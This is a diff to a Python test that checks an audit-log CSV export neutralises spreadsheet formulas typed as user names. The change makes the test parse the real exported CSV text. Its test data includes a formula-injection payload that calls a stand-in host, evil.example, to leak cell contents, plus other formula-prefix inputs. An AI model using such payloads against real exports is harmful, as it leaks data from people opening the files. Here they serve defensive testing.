@@ -2,9 +2,11 @@
 (finding 5); the CSV cannot carry a formula into Excel (finding 6)."""
 from __future__ import annotations
 
+import csv
+import io
 import json
 
-from archive_store import audit_log, users
+from archive_store import audit_log, csvfile, users
 from tests.secrecy.conftest import BANK, EMAIL, ID_OWN, ID_PARTY, ID_PROPOSED, ID_SPOUSE, MOBILE, leaked_runs, users_of
 
 SECRETS = [ID_OWN, ID_SPOUSE, ID_PARTY, ID_PROPOSED, BANK, MOBILE]
@@ -54,7 +56,8 @@ def test_a_formula_typed_as_a_user_name_is_neutralised_in_the_csv(world):
     names = ['=HYPERLINK("http://evil.example/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
     for name in names:
         assert users.sign_in(system, name, "wrong-password", address="203.0.113.9") is None
-    rows = list(audit_log.export_rows(system, users_of(system)["auditor"], {"action": "user.login_failed"}))
-    cells = [c for r in rows[1:] for c in r if isinstance(c, str)]
+    exported = csvfile.text(audit_log.export_rows(system, users_of(system)["auditor"], {"action": "user.login_failed"}))
+    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))
+    cells = [c for r in rows[1:] for c in r]
     assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
     assert "'" + names[0] in cells
